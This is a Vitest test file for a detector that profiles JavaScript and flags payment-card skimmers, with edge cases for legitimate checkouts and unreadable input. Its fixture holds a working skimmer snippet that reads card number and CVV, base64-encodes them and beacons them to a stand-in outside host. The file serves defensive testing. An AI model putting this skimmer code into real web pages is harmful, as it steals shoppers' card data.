import { describe, expect, it } from 'vitest';
import { PROFILE_BOUNDS } from './profile.ts';
import { profileText } from './profile-text.ts';

const COLLECTING = `
document.querySelector('#place-order').addEventListener('click', function () {
  var card = document.getElementById('card-number').value + '|' + document.getElementById('cvv').value;
  new Image().src = 'https://metrics.strange-host.localhost/p.gif?d=' + btoa(card);
});`;

describe('verdicts', () => {
  it('calls a script that reads card fields, encodes them and sends them to another host a skimmer', () => {
    const profile = profileText(COLLECTING);
    expect(profile.verdict).toBe('skimmer');
    expect(profile.read).toBe('parsed');
    const kinds = profile.signals.slice(0, 4).map(({ kind }) => kind);
    expect(kinds).toEqual(expect.arrayContaining(['collects-card', 'sink', 'encoding']));
  });

  it("leaves a shop's own checkout at review, though it reads and sends card fields", () => {
    const own = `$('#place-order').on('click', function () {
      $.post('/checkout/pay', { number: $('#card-number').val(), cvv: $('#cvv').val() }, showResult);
    });`;
    expect(['clean', 'review']).toContain(profileText(own).verdict);
  });

  it.each([
    ['', 'empty'],
    [' \n\t', 'empty'],
    ['<!doctype html><title>404</title>', 'not-javascript'],
    ['{"price": 100}', 'not-javascript'],
    ['(('.repeat(50_000), 'too-complex'],
    ['x'.repeat(PROFILE_BOUNDS.characters + 1), 'too-large'],
  ])('says why %j was not read', (text, reason) => {
    expect(profileText(text).reason).toBe(reason);
  });
});
